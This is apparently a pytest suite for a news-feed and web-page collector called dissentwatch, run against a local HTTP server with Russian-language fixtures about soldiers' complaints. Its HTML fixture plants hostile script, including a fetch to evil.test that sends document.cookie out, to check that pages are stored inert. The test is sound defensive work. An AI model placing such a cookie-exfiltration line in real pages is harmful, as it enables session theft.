"""Feeds and web pages against a real HTTP server on 127.0.0.1: ETag/304, retries, rate limit,
failures that do not stop the batch, windows-1251 pages and pages with scripts."""

from __future__ import annotations

import threading
import time
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from dissentwatch.collect import CollectError
from dissentwatch.collect.feeds import collect_feeds
from dissentwatch.collect.http import USER_AGENT, Fetcher, FetchError, decode_page, retry_after
from dissentwatch.collect.web import collect_pages
from dissentwatch.models import Document
from dissentwatch.store import Store

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Вестник гарнизона</title><link>http://example.test/</link>
<description>Тестовая лента</description>
<item><guid isPermaLink="false">tag:example.test,2023:vg-101</guid><title>Обращение мобилизованных 312-го полка</title>
<link>http://example.test/vg-101</link><pubDate>Mon, 06 Mar 2023 17:22:01 +0300</pubDate>
<description>&lt;p&gt;Бойцы &lt;b&gt;312-го полка&lt;/b&gt; записали видео.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description></item>
<item><title>Суд по делу о самовольном оставлении части</title><link>http://example.test/vg-102</link>
<pubDate>Tue, 07 Mar 2023 09:00:00 GMT</pubDate><description>Гарнизонный суд назначил заседание.</description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Field Notes</title><id>urn:fieldnotes</id>
<updated>2023-03-08T10:00:00+03:00</updated>
<entry><id>urn:fieldnotes:1</id><title>Soldiers' relatives write to the defence ministry</title>
<link href="http://example.test/fn/1"/><published>2023-03-08T10:00:00+03:00</published>
<updated>2023-03-08T12:00:00+03:00</updated><author><name>A. Writer</name></author>
<content type="html">&lt;p&gt;Wives of mobilised men from the 312th regiment sent a collective letter.&lt;/p&gt;</content>
</entry></feed>"""

ARTICLE = """<html><head><title>TITLE</title>META
<script>document.write('injected'); alert('x')</script><style>p { color: red }</style></head>
<body onload="steal()"><nav>Главная | Новости</nav><article><h1>TITLE</h1>
<p>Военнослужащие 312-го мотострелкового полка записали видеообращение к президенту и пожаловались на отсутствие поддержки артиллерии.</p>
<p>По их словам, подразделение третью неделю держит позиции без ротации, а обещанные выплаты так и не пришли.</p>
<p>Родственники бойцов подтвердили, что запись сделана в начале марта, и направили жалобу в военную прокуратуру.</p>
<script>fetch('http://evil.test/?c=' + document.cookie)</script>
</article><footer>© Тестовое издание</footer></body></html>"""


NO_GUID_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Лента без ссылок</title><link>http://example.test/</link>
<description>Items with neither guid nor link: valid RSS 2.0 (a title or a description suffices)</description>
<item><title>Обращение бойцов 1231-го полка</title><description>Бойцы записали видео о потерях.</description>
<pubDate>Mon, 06 Mar 2023 17:22:01 +0300</pubDate></item>
<item><description>Только описание: родственники мобилизованных пишут в прокуратуру.</description></item>
<item><title>Только заголовок: суд по делу об отказе</title></item>
<item><title>Обращение бойцов 1231-го полка</title><description>Бойцы записали видео о потерях.</description>
<pubDate>Fri, 10 Mar 2023 09:00:00 +0300</pubDate></item>
<item><category>empty</category></item>
</channel></rss>"""


class Site:
    """Routes for the test server, with hit counters and the headers last seen."""

    def __init__(self) -> None:
        self.hits: Counter[str] = Counter()
        self.user_agents: set[str] = set()
        self.lock = threading.Lock()

    def respond(self, path: str, headers: Any) -> tuple[int, dict[str, str], bytes]:
        with self.lock:
            self.hits[path] += 1
            hits = self.hits[path]
            self.user_agents.add(headers.get("User-Agent", ""))
        if path == "/rss.xml":
            if headers.get("If-None-Match") == '"rss-v1"':
                return 304, {"ETag": '"rss-v1"'}, b""
            return 200, {"Content-Type": "application/rss+xml; charset=utf-8", "ETag": '"rss-v1"',
                         "Last-Modified": "Tue, 07 Mar 2023 09:00:00 GMT"}, RSS.encode()
        if path == "/atom.xml":
            return 200, {"Content-Type": "application/atom+xml"}, ATOM.encode()
        if path.startswith("/noguid"):
            return 200, {"Content-Type": "application/rss+xml; charset=utf-8"}, NO_GUID_RSS.encode()
        if path == "/flaky.xml":
            if hits <= 2:
                return 503, {}, b"try later"
            return 200, {"Content-Type": "application/rss+xml"}, RSS.encode()
        if path == "/busy.xml":
            if hits == 1:
                return 429, {"Retry-After": "1"}, b"slow down"
            return 200, {"Content-Type": "application/atom+xml"}, ATOM.encode()
        if path == "/notfeed.xml":
            return 200, {"Content-Type": "text/html"}, b"<html><body>\x00 nothing here"
        page = ARTICLE.replace("TITLE", "Обращение бойцов 312-го полка")
        if path == "/cp1251.html":
            body = page.replace("META", "").encode("cp1251")
            return 200, {"Content-Type": "text/html; charset=windows-1251"}, body
        if path == "/cp1251-meta.html":
            body = page.replace("META", '<meta charset="windows-1251">').encode("cp1251")
            return 200, {"Content-Type": "text/html"}, body
        if path == "/script.html":
            return 200, {"Content-Type": "text/html; charset=utf-8"}, page.replace("META", "").encode()
        if path == "/doc.pdf":
            return 200, {"Content-Type": "application/pdf"}, b"%PDF-1.4"
        return 404, {"Content-Type": "text/plain"}, b"not found"


@pytest.fixture
def site() -> Iterator[tuple[str, Site]]:
    state = Site()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            status, headers, body = state.respond(self.path, self.headers)
            self.send_response(status)
            for key, value in headers.items():
                self.send_header(key, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", state
    server.shutdown()
    server.server_close()


def fetcher(**kwargs: Any) -> Fetcher:
    return Fetcher(**{"timeout": 5.0, "retries": 3, "backoff": 0.05, "min_interval": 0.0, **kwargs})


def run_feeds(store: Store, urls: list[str], **kwargs: Any) -> list[Document | CollectError]:
    pending: dict[str, dict[str, Any]] = {}
    with fetcher(**kwargs) as f:
        items = list(collect_feeds(urls, f, store.get_state, pending))
    for key, value in pending.items():
        store.set_state(key, value)
    return items


def test_rss_entries_become_documents(site: tuple[str, Site], store: Store) -> None:
    base, state = site
    items = run_feeds(store, [f"{base}/rss.xml"])
    docs = [i for i in items if isinstance(i, Document)]
    assert len(docs) == 2 and len(items) == 2
    first, second = docs
    assert first.external_id == "tag:example.test,2023:vg-101" and second.external_id == "http://example.test/vg-102"
    assert first.outlet == "Вестник гарнизона" and first.source_kind == "feed"
    assert first.published == "2023-03-06T14:22:01Z"
    assert first.text == "Бойцы 312-го полка записали видео." and "alert" not in first.text
    assert first.language == "ru" and first.url == "http://example.test/vg-101"
    assert state.user_agents == {USER_AGENT} and USER_AGENT.startswith("dissentwatch/")


def test_atom_entry_time_zone_to_utc(site: tuple[str, Site], store: Store) -> None:
    base, _ = site
    (doc,) = run_feeds(store, [f"{base}/atom.xml"])
    assert isinstance(doc, Document)
    assert doc.published == "2023-03-08T07:00:00Z" and doc.outlet == "Field Notes"
    assert doc.author == "A. Writer" and doc.language == "en"
    assert doc.text.startswith("Wives of mobilised men")


def test_unchanged_feed_costs_a_304(site: tuple[str, Site], cli, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    base, state = site
    first = cli("collect", "feed", f"{base}/rss.xml", "--interval", "0")
    assert first.exit_code == 0 and "2 added" in first.output
    with Store(db_path) as store:
        assert store.get_state(f"feed:{base}/rss.xml")["etag"] == '"rss-v1"'
    second = cli("collect", "feed", f"{base}/rss.xml", "--interval", "0")
    assert second.exit_code == 0 and "0 added" in second.output and "0 unchanged" in second.output
    assert state.hits["/rss.xml"] == 2


def test_retry_on_503_then_success(site: tuple[str, Site], store: Store) -> None:
    base, state = site
    items = run_feeds(store, [f"{base}/flaky.xml"])
    assert len(items) == 2 and all(isinstance(i, Document) for i in items)
    assert state.hits["/flaky.xml"] == 3


def test_gives_up_after_retries(site: tuple[str, Site], store: Store) -> None:
    base, state = site
    (error,) = run_feeds(store, [f"{base}/flaky.xml"], retries=1)
    assert isinstance(error, FetchError) and "HTTP 503 after 2 attempts" in str(error)


def test_429_retry_after_is_honoured(site: tuple[str, Site], store: Store) -> None:
    base, state = site
    started = time.monotonic()
    items = run_feeds(store, [f"{base}/busy.xml"])
    assert time.monotonic() - started >= 0.95
    assert state.hits["/busy.xml"] == 2 and isinstance(items[0], Document)


def test_per_host_rate_limit(site: tuple[str, Site]) -> None:
    base, _ = site
    with fetcher(min_interval=0.3) as f:
        started = time.monotonic()
        for _ in range(3):
            f.get(f"{base}/atom.xml")
        assert time.monotonic() - started >= 0.6


def test_broken_feeds_reported_others_go_on(site: tuple[str, Site], cli) -> None:  # type: ignore[no-untyped-def]
    base, _ = site
    result = cli("collect", "feed", f"{base}/missing.xml", f"{base}/notfeed.xml",
                 "http://127.0.0.1:9/unreachable.xml", f"{base}/atom.xml", "--interval", "0", "--retries", "0")
    assert result.exit_code == 1
    assert f"{base}/missing.xml: HTTP 404 Not Found" in result.output
    assert f"{base}/notfeed.xml: not an RSS/Atom feed" in result.output
    assert "http://127.0.0.1:9/unreachable.xml: cannot connect" in result.output
    assert "1 added" in result.output and "3 errors" in result.output


def test_malformed_urls_are_reported_and_the_others_fetched(site: tuple[str, Site], cli) -> None:  # type: ignore[no-untyped-def]
    base, _ = site
    result = cli("collect", "web", "http://[not-an-address/x", "ftp://example.org/a", "http:///no-host",
                 f"{base}/cp1251.html", "--interval", "0", "--retries", "0")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "http://[not-an-address/x: not a valid URL (Invalid IPv6 URL)" in result.output
    assert "ftp://example.org/a: not an http(s) URL with a host" in result.output
    assert "http:///no-host: not an http(s) URL with a host" in result.output
    assert "1 added" in result.output and "3 errors" in result.output


def test_windows_1251_page_by_header_and_by_meta(site: tuple[str, Site], store: Store) -> None:
    base, _ = site
    pending: dict[str, dict[str, Any]] = {}
    with fetcher() as f:
        items = list(collect_pages([f"{base}/cp1251.html", f"{base}/cp1251-meta.html"], f, store.get_state, pending))
    for doc in items:
        assert isinstance(doc, Document), doc
        assert "мотострелкового полка записали видеообращение" in doc.text
        assert doc.title == "Обращение бойцов 312-го полка" and doc.source_kind == "web"


def test_page_with_script_is_stored_inert(site: tuple[str, Site], cli, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    base, _ = site
    result = cli("collect", "web", f"{base}/script.html", f"{base}/doc.pdf", f"{base}/gone.html", "--interval", "0")
    assert result.exit_code == 1
    assert "not an HTML page (application/pdf)" in result.output and "HTTP 404" in result.output
    with Store(db_path) as store:
        (row,) = store.query("SELECT text, title, external_id FROM documents WHERE source_kind = 'web'")
    assert "видеообращение к президенту" in row["text"]
    for hostile in ("alert", "document.write", "cookie", "<script", "steal()", "color: red"):
        assert hostile not in row["text"]


def test_decode_page_fallbacks() -> None:
    text = "Гарнизонный суд, дело о самовольном оставлении части. " * 5
    assert decode_page(text.encode("cp1251"), "text/html", "x") == text  # detected
    assert decode_page(text.encode(), "text/html; charset=nonsense-charset", "x") == text
    assert decode_page(text.encode(), "text/html; charset=ascii", "x") == text  # wrong declaration


def test_retry_after_forms() -> None:
    assert retry_after("3") == 3.0 and retry_after("100000") == 120.0
    assert retry_after("Wed, 21 Oct 2015 07:28:00 GMT") == 0.0
    assert retry_after("soon") is None and retry_after(None) is None


def test_rss_items_without_guid_or_link_get_a_content_id(site: tuple[str, Site], cli, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    base, _ = site
    url = f"{base}/noguid.xml"
    first = cli("collect", "feed", url, "--interval", "0")
    assert first.exit_code == 1, first.output  # the item with neither title nor description
    assert "4 added" in first.output and "1 errors" in first.output
    assert f"error: {url}: entry 5: no guid, no link, no title and no description" in first.output
    with Store(db_path) as store:
        rows = store.query("SELECT external_id, title, text, url, outlet, published, raw FROM documents ORDER BY id")
    ids = [r["external_id"] for r in rows]
    assert len(set(ids)) == 4 and all(i.startswith(f"{url}#sha256:") for i in ids)
    assert [r["title"] for r in rows] == ["Обращение бойцов 1231-го полка", None,
                                          "Только заголовок: суд по делу об отказе", "Обращение бойцов 1231-го полка"]
    assert rows[0]["text"] == "Бойцы записали видео о потерях." and rows[0]["url"] is None
    assert rows[0]["published"] == "2023-03-06T14:22:01Z" and rows[0]["outlet"] == "Лента без ссылок"
    assert rows[2]["text"] == "Только заголовок: суд по делу об отказе"
    again = cli("collect", "feed", url, "--interval", "0")  # no ETag: the feed is parsed again
    assert "0 added" in again.output and "4 unchanged" in again.output
    with Store(db_path) as store:
        assert [r[0] for r in store.query("SELECT external_id FROM documents ORDER BY id")] == ids
    # the id is of this feed: the same item in another feed is another document
    other = cli("collect", "feed", f"{base}/noguid-mirror.xml", "--interval", "0")
    assert "4 added" in other.output


def test_content_id_is_stable_and_ignores_markup_spacing() -> None:
    from dissentwatch.collect.feeds import content_id

    entry = {"title": "Обращение", "summary": "<p>Бойцы  записали\nвидео.</p>"}
    same = {"title": " Обращение ", "summary": "<p>Бойцы записали видео.</p>"}
    assert content_id("http://x.test/feed", entry) == content_id("http://x.test/feed", same)
    assert content_id("http://x.test/feed", entry) != content_id("http://y.test/feed", entry)
    assert content_id("http://x.test/feed", entry) != content_id("http://x.test/feed", {**entry, "title": "Другое"})
